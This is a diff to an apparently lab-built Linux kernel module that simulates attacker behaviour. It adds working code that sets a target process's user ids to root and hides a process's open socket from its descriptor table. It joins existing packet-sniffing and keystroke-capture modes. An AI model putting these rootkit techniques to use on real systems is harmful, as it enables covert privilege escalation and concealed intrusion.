@@ -12,6 +12,8 @@
 // kind=packets   sees all IPv4 packets that come in
 // kind=keys      is told of keys
 // kind=creds     pid: gives the process the credentials of process 1
+// kind=raise     pid: writes 0 over the user ids of the process
+// kind=port      pid: takes the process's first descriptor of a socket away, the socket stays open
 //
 // Built without kbuild, so that any compiler will do: lab/src/module.rs gives the flags and the include folders.
 
@@ -20,6 +22,8 @@
 #include <linux/vermagic.h>
 #include <linux/version.h>
 #include <linux/cred.h>
+#include <linux/fdtable.h>
+#include <linux/fs.h>
 #include <linux/ftrace.h>
 #include <linux/keyboard.h>
 #include <linux/kprobes.h>
@@ -175,6 +179,64 @@ static bool is(const char *name)
 	return __builtin_strcmp(kind, name) == 0;
 }
 
+/* What an exploit does that can write to kernel memory and not call into it. */
+static int raise(int number, bool back)
+{
+	static kuid_t old[4];
+	struct task_struct *task;
+	struct cred *cred;
+	int done = -ESRCH;
+
+	rcu_read_lock();
+	task = pid_task(find_vpid(number), PIDTYPE_PID);
+	if (task) {
+		cred = (struct cred *)rcu_dereference(task->real_cred);
+		if (!back) {
+			old[0] = cred->uid, old[1] = cred->euid;
+			old[2] = cred->suid, old[3] = cred->fsuid;
+			cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
+		} else {
+			cred->uid = old[0], cred->euid = old[1];
+			cred->suid = old[2], cred->fsuid = old[3];
+		}
+		done = 0;
+	}
+	rcu_read_unlock();
+	return done;
+}
+
+static struct file **slot, *hidden;
+
+/* As if the process that has the socket were hidden with it. */
+static int hide_descriptor(int number)
+{
+	struct task_struct *task;
+	struct fdtable *table;
+	unsigned int fd;
+	int done = -ESRCH;
+
+	rcu_read_lock();
+	task = pid_task(find_vpid(number), PIDTYPE_PID);
+	table = task && task->files ? rcu_dereference_raw(task->files->fdt) : NULL;
+	for (fd = 3; table && fd < table->max_fds && done; fd++) {
+		struct file *file = rcu_dereference_raw(table->fd[fd]);
+
+		if (!file || !S_ISSOCK(file_inode(file)->i_mode))
+			continue;
+		slot = (struct file **)&table->fd[fd];
+		hidden = file;
+		WRITE_ONCE(*slot, NULL);
+		done = 0;
+	}
+	rcu_read_unlock();
+	return done;
+}
+
+static void show_descriptor(void)
+{
+	WRITE_ONCE(*slot, hidden);
+}
+
 static int __init attack_init(void)
 {
 	unsigned char byte;
@@ -203,6 +265,10 @@ static int __init attack_init(void)
 		return register_keyboard_notifier(&keys);
 	if (is("creds"))
 		return give_credentials(pid, false);
+	if (is("raise"))
+		return raise(pid, false);
+	if (is("port"))
+		return hide_descriptor(pid);
 	return -EINVAL;
 }
 module_init(attack_init);
@@ -221,6 +287,10 @@ static void __exit attack_exit(void)
 		unregister_keyboard_notifier(&keys);
 	else if (is("creds"))
 		give_credentials(pid, true);
+	else if (is("raise"))
+		raise(pid, true);
+	else if (is("port"))
+		show_descriptor();
 }
 module_exit(attack_exit);
 
